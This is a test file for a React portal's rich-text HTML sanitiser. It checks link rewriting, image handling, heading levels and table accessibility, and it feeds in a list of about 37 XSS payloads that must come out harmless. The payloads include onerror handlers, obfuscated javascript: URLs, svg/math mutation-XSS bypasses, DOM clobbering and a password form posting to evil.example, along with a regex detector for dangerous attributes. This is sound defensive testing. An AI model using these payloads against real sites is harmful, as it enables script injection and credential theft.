import { render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest'
import { RichText } from '#src/components/RichText.tsx'
import { richText } from '#src/components/richText.ts'
import { startMessages } from '#src/i18n/messages.ts'
import { awaitParts } from '#src/theme/useIsStarted.ts'

const words = { newTab: '（在新标签页打开）', table: '表格' }

const shown = (html: string) => {
  const box = document.createElement('div')
  box.append(richText(html, (path) => `/portal${path}`, words))
  return box
}

const executable = /^on|^srcdoc$|^formaction$|^xlink|^style$|^id$|^name$|^action$|^background$/i

/** What runs, frames, submits or leads to code, anywhere in the text. */
const harmOf = (box: HTMLElement) =>
  [...box.querySelectorAll('*')].flatMap((element) => [
    ...(/^(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|audio|textarea|select|noscript|frame|marquee)$/i.test(
      element.tagName,
    )
      ? [element.outerHTML]
      : []),
    ...element
      .getAttributeNames()
      .filter(
        (name) =>
          executable.test(name) ||
          /^\s*(javascript|data|vbscript|blob|file):/i.test(element.getAttribute(name) ?? ''),
      )
      .map((name) => `${element.tagName} ${name}`),
  ])

describe('no harm comes through', () => {
  test.each([
    '<script>alert(1)</script>',
    '<p>a<script src="https://evil.example/x.js"></script>b</p>',
    '<img src=x onerror=alert(1)>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://good@evil.example/">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p id="content" name="location">clobbers</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<video src="https://evil.example/" onloadstart=alert(1)></video>',
    '<a href="/safe" onclick="alert(1)" target="_self">x</a>',
    '<p data-path="/tax/generation" aria-hidden="true">x</p>',
  ])('%s', (html) => {
    expect(harmOf(shown(html))).toEqual([])
  })

  test('nothing but the portal is asked for', () => {
    const box = shown(
      '<img src="https://evil.example/a.png"><img src="/api/portal/content/file/a.png">',
    )
    expect([...box.querySelectorAll('img')].map((it) => it.getAttribute('src'))).toEqual([
      '/api/portal/content/file/a.png',
    ])
  })

  test('an attribute by which the page would follow a link is its own', () => {
    expect(shown('<p data-path="/tax/generation">x</p>').innerHTML).toBe('<p>x</p>')
  })
})

describe('what an author may write', () => {
  test('a link elsewhere opens beside the portal and says so', () => {
    const link = shown('<a href="https://www.mot.gov.cn/">交通运输部</a>').querySelector('a')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.textContent).toBe('交通运输部（在新标签页打开）')
  })

  test('a link inside stands below the folder of the portal', () => {
    const link = shown('<a href="/LCS/standard">信用标准</a>').querySelector('a')
    expect(link?.getAttribute('href')).toBe('/portal/LCS/standard')
    expect(link?.hasAttribute('target')).toBe(false)
  })

  test('a picture keeps its size and comes late', () => {
    const picture = shown('<img src="/a.png" width="640" height="320">').querySelector('img')
    expect(picture?.outerHTML).toBe(
      '<img src="/a.png" width="640" height="320" loading="lazy" decoding="async" alt="">',
    )
  })

  test('headings begin at the second level and leave none out', () => {
    const box = shown('<h1>一</h1><h4>二</h4><h2>三</h2><h6>四</h6>')
    expect([...box.children].map(({ tagName }) => tagName)).toEqual(['H2', 'H3', 'H2', 'H3'])
  })

  test('a table is framed, named and has heads', () => {
    const frame = shown(
      '<table><caption>扣分标准</caption><thead><tr><th>行为</th></tr></thead><tbody><tr><th>一</th></tr></tbody></table>',
    ).firstElementChild
    expect(frame?.getAttribute('aria-label')).toBe('扣分标准')
    expect(frame?.getAttribute('tabindex')).toBe('0')
    expect(
      [...(frame?.querySelectorAll('th') ?? [])].map((it) => it.getAttribute('scope')),
    ).toEqual(['col', 'row'])
  })

  test.each([
    ['<p style="color:red;text-align:center">x</p>', '<p class="text-center">x</p>'],
    ['<p class="frame" align="right">x</p>', '<p class="text-right">x</p>'],
    ['<p class="indent evil" style="text-indent: 2em">x</p>', '<p class="indent">x</p>'],
    ['<p>a style="b"</p>', '<p>a style="b"</p>'],
  ])('of the looks some stay, as classes: %s', (html, clean) => {
    expect(shown(html).innerHTML).toBe(clean)
  })
})

describe('on the page', () => {
  beforeAll(() => startMessages([], 'zh-CN'))

  test('a link inside is followed without loading the portal again', async () => {
    const follow = vi.fn<(path: string) => boolean>(() => true)
    const links = { hrefOf: (path: string) => path, follow }
    render(<RichText html="<p><a href='/LCS/standard'>信用<b>标准</b></a></p>" links={links} />)
    await userEvent.click(screen.getByText('标准'))
    expect(follow).toHaveBeenCalledWith('/LCS/standard')
  })

  test('a text that the server did not draw is not written as HTML, also while its page is taken over', () => {
    awaitParts(3)
    onTestFinished(() => awaitParts(0))
    const written = vi.spyOn(Element.prototype, 'innerHTML', 'set')
    onTestFinished(() => written.mockRestore())
    const links = { hrefOf: (path: string) => path, follow: () => true }
    render(<RichText html="<p>甲</p>" lang="zh-CN" links={links} />)
    expect(screen.getByText('甲')).toBeVisible()
    expect(written.mock.contexts).not.toContain(screen.getByText('甲').parentElement)
  })

  test('another text replaces the first', () => {
    const links = { hrefOf: (path: string) => path, follow: () => true }
    const { rerender } = render(<RichText html="<p>甲</p>" links={links} />)
    rerender(<RichText html="<p>乙</p>" links={links} />)
    expect(screen.queryByText('甲')).toBeNull()
    expect(screen.getByText('乙')).toBeVisible()
  })
})
